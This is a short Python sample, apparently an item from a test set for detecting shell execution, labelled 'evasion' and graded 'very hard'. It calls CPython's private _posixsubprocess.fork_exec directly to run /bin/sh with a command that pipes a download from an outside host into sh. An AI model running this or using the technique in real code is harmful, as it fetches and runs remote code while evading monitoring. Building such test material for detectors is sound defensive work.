# evasion: the private _posixsubprocess.fork_exec that subprocess uses, called directly with /bin/sh -c (CPython 3.11 signature)
# grade: very hard; does: shell
import _posixsubprocess
import os

argv = [b"/bin/sh", b"-c", b"id; curl -s http://203.0.113.9/x | sh"]
err_r, err_w = os.pipe()
pid = _posixsubprocess.fork_exec(
    argv, [argv[0]], True, (err_w,), None, None,
    -1, -1, -1, -1, -1, -1,
    err_r, err_w,
    True, False, -1, None, None, None, -1,
    None, True,
)
os.close(err_w)
os.waitpid(pid, 0)
